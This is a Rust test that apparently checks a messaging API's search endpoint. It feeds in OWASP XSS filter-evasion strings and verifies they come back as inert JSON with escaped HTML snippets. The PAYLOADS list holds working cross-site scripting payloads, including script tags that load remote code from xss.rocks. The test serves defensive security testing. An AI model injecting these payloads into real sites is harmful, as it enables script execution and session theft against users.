//! Hostile text from customers (OWASP XSS filter-evasion strings) comes back as inert JSON
//! strings; highlighted search snippets, the one place the API emits HTML, escape it.

use serde_json::json;

use crate::harness::TestServer;

pub const PAYLOADS: &[&str] = &[
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "'';!--\"<XSS>=&{()}",
];

#[tokio::test]
async fn hostile_text_comes_back_inert() {
    let server = TestServer::start().await;
    let ingest = server.token("ingest").await;
    let agent = server.login_as("anna", "agent").await;
    let batch: Vec<_> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| crate::api::message(&format!("x{i}"), "evil", &format!("xsstest {p}"), None))
        .collect();
    let (status, _) = ingest.post("/api/v1/messages", json!(batch)).await;
    assert_eq!(status, 200);
    server.settle().await;

    // JSON answers carry the text verbatim as a JSON string, typed as JSON, not sniffable.
    let resp = agent
        .http
        .get(server.url("/api/v1/search?q=xsstest&limit=100"))
        .send()
        .await
        .unwrap();
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("application/json")
    );
    assert_eq!(resp.headers()["x-content-type-options"], "nosniff");
    assert!(
        resp.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("default-src 'none'")
    );
    let hits: serde_json::Value = resp.json().await.unwrap();
    assert_eq!(hits["total"], PAYLOADS.len(), "{hits}");
    let mut texts = Vec::new();
    for hit in hits["hits"].as_array().unwrap() {
        texts.push(
            hit["message"]["text"]
                .as_str()
                .unwrap()
                .trim_start_matches("xsstest ")
                .to_owned(),
        );
        // The snippet is HTML: the only tags in it are our <b> highlights.
        let html = hit["snippet_html"].as_str().unwrap();
        let stripped = html.replace("<b>", "").replace("</b>", "");
        assert!(
            !stripped.contains('<'),
            "unescaped markup in snippet: {html}"
        );
    }
    texts.sort();
    let mut expected: Vec<_> = PAYLOADS.iter().map(|p| p.to_string()).collect();
    expected.sort();
    assert_eq!(texts, expected, "text must round-trip unchanged");
    server.stop().await;
}
